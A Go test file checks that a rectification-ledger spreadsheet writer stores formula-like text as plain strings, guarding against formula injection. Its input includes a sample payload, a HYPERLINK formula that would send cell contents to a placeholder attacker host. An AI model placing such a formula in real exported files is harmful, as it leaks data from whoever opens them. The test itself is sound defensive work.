package ledger_test

import (
	"bytes"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/gonggu/gonggu/internal/ledger"
)

// TestWriterStoresFormulasAsText writes an item whose text fields are formulas: the 整改台账
// workbook holds them as strings, never as formulas a spreadsheet would evaluate.
func TestWriterStoresFormulasAsText(t *testing.T) {
	const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"点击核实")`
	w, err := ledger.NewWriter(ledger.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	it := &ledger.Item{Source: ledger.FromPetition, Description: hyperlink, Unit: "=1+1", Person: "@SUM(A1:A2)",
		Measures: "+1+1", Progress: "-1+1", Deadline: "2026-12-31", Status: ledger.Doing}
	if err := w.Write(&ledger.Row{Item: it}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := w.Close(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for col, want := range map[string]string{"H2": hyperlink, "I2": "=1+1", "J2": "@SUM(A1:A2)", "K2": "+1+1", "N2": "-1+1"} {
		got, err := f.GetCellValue(ledger.SheetName, col)
		if err != nil || got != want {
			t.Errorf("%s = %q (%v), want %q", col, got, err, want)
		}
		if formula, err := f.GetCellFormula(ledger.SheetName, col); err != nil || formula != "" {
			t.Errorf("%s has the formula %q (%v)", col, formula, err)
		}
		typ, err := f.GetCellType(ledger.SheetName, col)
		if err != nil {
			t.Fatal(err)
		}
		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s has the type %v, want a string", col, typ)
		}
	}
}
